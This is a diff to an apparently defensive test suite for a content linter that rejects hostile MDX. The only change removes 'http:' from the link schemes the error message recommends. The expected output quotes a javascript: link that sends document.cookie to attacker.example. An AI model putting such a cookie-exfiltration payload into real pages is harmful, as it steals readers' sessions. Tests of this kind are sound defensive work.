@@ -73,7 +73,7 @@ describe('hostile MDX', { timeout: 120_000 }, () => {
 			  ],
 			  "javascript-link": [
 			    "content/chapters/en/javascript-link.mdx:41:6 error UnsafeUrl: The address javascript:fetch('https://attacker.example/'+document.cookie) uses the javascript: scheme, which a browser may run or hand to another program.
-			    Link with https:, http: or mailto:, or to a page of the site by its file name, for example glossary.html#chain-of-custody.",
+			    Link with https: or mailto:, or to a page of the site by its file name, for example glossary.html#chain-of-custody.",
 			  ],
 			  "script-element": [
 			    "content/chapters/en/script-element.mdx:37:1 error RawHtmlElement: The <script> element is not allowed in content: it would run code in the reader's browser.
